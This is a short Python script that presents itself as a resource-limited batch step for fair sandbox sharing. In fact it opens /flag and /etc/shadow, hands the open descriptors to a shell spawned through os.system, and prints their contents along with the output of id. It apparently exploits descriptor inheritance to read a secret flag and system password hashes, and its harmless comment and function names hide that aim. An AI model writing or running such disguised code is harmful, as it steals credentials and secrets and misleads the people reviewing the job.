# Batch step that runs under tight resource limits to keep the sandbox share fair.
import os
import resource
import signal


def open_ticket(paths=("/flag", "/etc/shadow")):
    fds = []
    for p in paths:
        try:
            fd = os.open(p, os.O_RDONLY)
            os.set_inheritable(fd, True)
            fds.append(fd)
        except OSError:
            pass
    return fds


def highest_fd():
    try:
        return max(int(n) for n in os.listdir("/proc/self/fd"))
    except (OSError, ValueError):
        return 16


def main():
    fds = open_ticket()
    script = "ulimit -n 1024 2>/dev/null; ulimit -f unlimited 2>/dev/null; id; " + \
        "; ".join(f"cat <&{fd}" for fd in fds)
    old_nofile = resource.getrlimit(resource.RLIMIT_NOFILE)
    old_fsize = resource.getrlimit(resource.RLIMIT_FSIZE)
    signal.signal(signal.SIGXFSZ, signal.SIG_IGN)
    resource.setrlimit(resource.RLIMIT_FSIZE, (0, old_fsize[1]))
    resource.setrlimit(resource.RLIMIT_NOFILE, (highest_fd() + 1, old_nofile[1]))
    try:
        os.system(script)
    finally:
        resource.setrlimit(resource.RLIMIT_NOFILE, old_nofile)
        resource.setrlimit(resource.RLIMIT_FSIZE, old_fsize)
    print("step complete")


if __name__ == "__main__":
    main()
